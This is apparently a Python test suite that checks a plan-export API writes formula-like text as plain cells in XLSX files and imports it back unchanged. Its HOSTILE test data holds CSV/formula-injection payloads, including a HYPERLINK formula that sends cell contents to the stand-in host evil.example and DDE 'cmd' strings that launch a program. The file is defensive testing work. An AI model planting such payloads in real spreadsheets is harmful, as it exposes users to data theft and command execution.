"""An exported text is a text cell, never a formula, and comes back exactly when imported again.

A title, description, input or output beginning with ``=`` was written as a live formula
(``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``; a leading tab was stripped and then the same), and
importing such an export failed on titles and emptied descriptions, inputs and outputs.
"""

from __future__ import annotations

import asyncio
import io
import itertools
import zipfile

import httpx
from hypothesis import HealthCheck, Phase, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import update

from core.models import Task
from core.plans.spreadsheets import columns

XLSX = columns.XLSX_MEDIA_TYPE
HEADER = [column.header for column in columns.COLUMNS]
HOSTILE = {
    "objective": '=HYPERLINK("https://evil.example/?"&A1,"Ver")',
    "activity": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "\t=cmd|' /C calc'!A0",
    "description": "=1+1\nsegunda línea",
    "inputs": ["+1+1", "-2+3", "=A1; con punto y coma"],
    "outputs": ['=HYPERLINK("x")'],
}
# What the API keeps of a text: stripped, 1 to 300 characters, none that XML cannot hold.
UNSTORABLE = [chr(code) for code in range(0x20) if chr(code) not in "\t\n\r"] + ["\ufffe", "\uffff"]
CHARACTERS = st.characters(exclude_categories=["Cs"], exclude_characters=UNSTORABLE)
LEADS = st.sampled_from(["=", "+", "-", "@", "\t", "\t=", "\n@", ""])
TEXT = st.builds(str.__add__, LEADS, st.text(CHARACTERS, max_size=299)).filter(
    lambda value: value.strip() and len(value) <= 300
)
ITEM = TEXT.filter(lambda value: len(value.strip().splitlines()) == 1)
titles = itertools.count()


def one_line_break(text: str) -> str:
    """The text as stored: a carriage return, alone or before a line feed, is a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def build(client, base: str, fields: dict) -> int:
    """A plan holding one task made of ``fields`` through the API; its id."""
    plan = client.post(f"{base}/plans", json={"year": 2026, "title": f"P{next(titles)}"})
    assert plan.status_code == 201, plan.text
    plan_id = plan.json()["id"]
    objective = client.post(
        f"{base}/plans/{plan_id}/objectives", json={"title": fields["objective"]}
    )
    assert objective.status_code == 201, objective.text
    activity = client.post(
        f"{base}/objectives/{objective.json()['id']}/activities", json={"title": fields["activity"]}
    )
    assert activity.status_code == 201, activity.text
    task = {name: fields[name] for name in ("title", "description", "inputs", "outputs")}
    created = client.post(f"{base}/activities/{activity.json()['id']}/tasks", json=task)
    assert created.status_code == 201, created.text
    return plan_id


def export(client, base: str, plan_id: int) -> bytes:
    response = client.get(f"{base}/plans/{plan_id}/export.xlsx")
    assert response.status_code == 200, response.text
    return response.content


def reimport(client, base: str, content: bytes) -> int:
    response = client.post(
        f"{base}/plans/import",
        data={"year": "2026", "title": f"P{next(titles)}"},
        files={"file": ("plan.xlsx", content, XLSX)},
    )
    assert response.status_code == 201, response.text
    return response.json()["plan"]["id"]


def rows(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content), read_only=True)["Plan"]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def tasks(client, base: str, plan_id: int) -> list[dict]:
    listed = client.get(f"{base}/plans/{plan_id}/tasks").json()["items"]
    return [
        {name: task[name] for name in ("title", "description", "inputs", "outputs")}
        for task in listed
    ]


def round_trip(client, base: str, fields: dict) -> None:
    """Export, import, export: the same rows, and the tasks hold what the API kept."""
    original = build(client, base, fields)
    first = export(client, base, original)
    copy = reimport(client, base, first)
    assert rows(export(client, base, copy)) == rows(first)
    kept = {
        "title": one_line_break(fields["title"].strip()),
        "description": one_line_break(fields["description"].strip()) or None,
        "inputs": [item.strip() for item in fields["inputs"]],
        "outputs": [item.strip() for item in fields["outputs"]],
    }
    assert tasks(client, base, original) == tasks(client, base, copy) == [kept]
    [_header, row] = rows(first)
    assert row[HEADER.index("Objetivo")] == one_line_break(fields["objective"].strip())
    assert row[HEADER.index("Actividad")] == one_line_break(fields["activity"].strip())


class Blocking:
    """The test's client, callable from a thread (Hypothesis runs plain functions): each request
    runs on the test's event loop, which awaits the thread meanwhile."""

    def __init__(self, client: httpx.AsyncClient, headers: dict[str, str]) -> None:
        self.client, self.headers = client, headers
        self.loop = asyncio.get_running_loop()

    def _run(self, method: str, url: str, **options) -> httpx.Response:
        request = self.client.request(method, url, headers=self.headers, **options)
        return asyncio.run_coroutine_threadsafe(request, self.loop).result()

    def get(self, url: str, **options) -> httpx.Response:
        return self._run("GET", url, **options)

    def post(self, url: str, **options) -> httpx.Response:
        return self._run("POST", url, **options)


async def test_text_that_looks_like_a_formula_is_written_as_text(client, world):
    base = f"/secretariats/{world.own}"
    admin = Blocking(client, world.auth("secretariat_admin"))
    plan_id = await asyncio.to_thread(build, admin, base, HOSTILE)
    content = await asyncio.to_thread(export, admin, base, plan_id)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content))["Plan"]
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in texts} == {"s"}
    assert "=cmd|' /C calc'!A0" in [cell.value for cell in texts]


async def test_an_export_with_formula_like_text_imports_back_exactly(client, world):
    base = f"/secretariats/{world.own}"
    admin = Blocking(client, world.auth("secretariat_admin"))
    await asyncio.to_thread(round_trip, admin, base, HOSTILE)


async def test_any_text_the_api_accepts_comes_back_exactly(client, world):
    base = f"/secretariats/{world.own}"

    @hypothesis_settings(
        max_examples=25,
        phases=[Phase.explicit, Phase.reuse, Phase.generate, Phase.shrink],
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
    )
    @given(
        objective=TEXT,
        activity=TEXT,
        title=TEXT,
        description=TEXT,
        inputs=st.lists(ITEM, max_size=3),
        outputs=st.lists(ITEM, max_size=3),
    )
    @example(
        objective="=\r0", activity="a\r\nb", title="=\r0", description="x\ry", inputs=[], outputs=[]
    )
    def check(**fields):
        round_trip(admin, base, fields)

    admin = Blocking(client, world.auth("secretariat_admin"))
    await asyncio.to_thread(check)


async def test_characters_xml_cannot_hold_are_refused_where_they_enter(client, world):
    base = f"/secretariats/{world.own}"
    admin = {**world.auth("secretariat_admin"), "Accept-Language": "en"}
    objective = await client.post(
        f"{base}/plans/{world.own_plan}/objectives", headers=admin, json={"title": "O"}
    )
    activity = await client.post(
        f"{base}/objectives/{objective.json()['id']}/activities", headers=admin, json={"title": "A"}
    )
    tasks_url = f"{base}/activities/{activity.json()['id']}/tasks"
    for fields in (
        {"title": "Bell\x07"},
        {"title": "T", "description": "\x1b[31m"},
        {"title": "T", "inputs": ["\uffff"]},
        {"title": "T", "outputs": ["a\nb"]},
    ):
        refused = await client.post(tasks_url, headers=admin, json=fields)
        assert refused.status_code == 422, refused.text
        assert refused.headers["content-type"] == "application/problem+json"
    csv = "Objetivo,Actividad,Tarea,Descripción\nO,A,T,sin\x01control\n".encode()
    imported = await client.post(
        f"{base}/plans/import",
        headers=admin,
        data={"year": "2026", "title": "Control"},
        files={"file": ("plan.csv", csv, "text/csv")},
    )
    assert imported.status_code == 422
    [problem] = imported.json()["errors"]
    assert (problem["row"], problem["column"]) == (2, "Description")
    assert "U+0001" in problem["detail"]


async def test_a_stored_character_xml_cannot_hold_does_not_break_the_export(
    client, world, session_factory
):
    base = f"/secretariats/{world.own}"
    admin = world.auth("secretariat_admin")
    plan_id = await asyncio.to_thread(
        build,
        Blocking(client, admin),
        base,
        {**HOSTILE, "title": "Antes", "inputs": [], "outputs": []},
    )
    async with session_factory() as session, session.begin():
        await session.execute(update(Task).where(Task.title == "Antes").values(title="Antes\x01"))
    exported = await client.get(f"{base}/plans/{plan_id}/export.xlsx", headers=admin)
    assert exported.status_code == 200
    assert rows(exported.content)[1][HEADER.index("Tarea")] == "Antes\ufffd"
